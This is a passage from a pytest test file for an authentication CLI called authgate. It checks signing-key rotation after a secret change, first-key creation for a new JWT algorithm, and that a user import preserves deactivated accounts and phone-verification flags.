    assert runner.invoke(app, ["keys", "rotate"]).exit_code == 0
    monkeypatch.setenv("AUTHGATE_SECRET_KEY", "another-secret-key-long-enough-0123456789abcdef")
    get_settings.cache_clear()
    refused = runner.invoke(app, ["serve"])
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    assert refused.stderr.strip().splitlines()[-1:] == [  # after the first admin serve made
        "Error: no signing key opens with this AUTHGATE_SECRET_KEY (was it changed?): run "
        "`authgate keys rotate` with it, then start again"
    ]
    assert runner.invoke(app, ["keys", "rotate"]).exit_code == 0  # as the message says
    served: list[str] = []
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: served.append(target))
    assert runner.invoke(app, ["serve"]).exit_code == 0 and served == ["authgate.main:create_app"]


def test_serve_starts_when_a_new_algorithm_gets_its_first_key(
    cli_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Unreadable keys of another algorithm stop nothing: the app makes the configured one's key."""
    assert runner.invoke(app, ["migrate", "upgrade"]).exit_code == 0
    assert runner.invoke(app, ["keys", "rotate"]).exit_code == 0  # ES256, under the first secret
    monkeypatch.setenv("AUTHGATE_SECRET_KEY", "another-secret-key-long-enough-0123456789abcdef")
    monkeypatch.setenv("AUTHGATE_JWT_ALGORITHM", "RS256")
    get_settings.cache_clear()
    served: list[str] = []
    monkeypatch.setattr("authgate.cli.uvicorn.run", lambda target, **kwargs: served.append(target))
    result = runner.invoke(app, ["serve"])
    assert result.exit_code == 0, result.output
    assert served == ["authgate.main:create_app"]


def test_users_import_keeps_deactivated_accounts_and_verified_phones(cli_env: Path) -> None:
    """An export lists deactivated accounts with `is_active: false`: importing it must not revive them."""
    runner.invoke(app, ["migrate", "upgrade"])
    source = cli_env / "users.json"
    rows = [
        {"email": "gone@example.com", "is_active": False},
        {"email": "phoned@example.com", "phone": "+14155550123", "phone_verified": True},
        {"email": "plain@example.com", "is_active": "", "phone_verified": "true"},  # no phone: unverified
    ]
    source.write_text(json.dumps(rows))
    assert runner.invoke(app, ["users", "import", str(source)]).exit_code == 0
    exported = {r["email"]: r for r in json.loads(runner.invoke(app, ["users", "export"]).stdout)}
    assert (exported["gone@example.com"]["is_active"], exported["gone@example.com"]["phone_verified"]) == (
        False,
        False,
    )
    assert (
        exported["phoned@example.com"]["is_active"],
        exported["phoned@example.com"]["phone_verified"],
    ) == (True, True)
    assert (exported["plain@example.com"]["is_active"], exported["plain@example.com"]["phone_verified"]) == (
        True,
        False,
    )
